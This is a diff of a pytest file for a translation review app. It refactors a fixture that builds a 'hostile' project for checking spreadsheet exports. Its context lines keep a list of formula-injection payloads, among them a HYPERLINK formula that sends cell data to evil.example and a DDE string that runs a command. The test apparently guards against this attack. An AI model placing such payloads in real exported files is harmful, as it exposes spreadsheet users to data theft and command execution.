@@ -29,6 +29,7 @@ from click.testing import CliRunner
 
 from review_app.cli import main
 from review_app.formats.base import formula_like
+from tests.readers import local_mode
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
            "\t=1+1"]
@@ -74,8 +75,6 @@ def _assert_safe(path: Path, what: str) -> None:
 
 @pytest.fixture(scope="module")
 def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    import os
-
     from review_app.glossary import Concept, Glossary, Term, TermStatus, save_glossary
     from review_app.models import Role
     from review_app.mqm import MqmService
@@ -83,8 +82,7 @@ def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
     from review_app.qa import run_project
     from review_app.review import Actor
 
-    saved = os.environ.pop("REVIEW_APP_DATABASE_URL", None)
-    try:
+    with local_mode():
         base = tmp_path_factory.mktemp("hostile")
         src = base / "a.ja.txt"
         src.write_text(SOURCE, encoding="utf-8")
@@ -110,9 +108,6 @@ def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
         finally:
             op.close()
         return proj
-    finally:
-        if saved is not None:
-            os.environ["REVIEW_APP_DATABASE_URL"] = saved
 
 
 def _spreadsheet_exporters() -> list[str]:
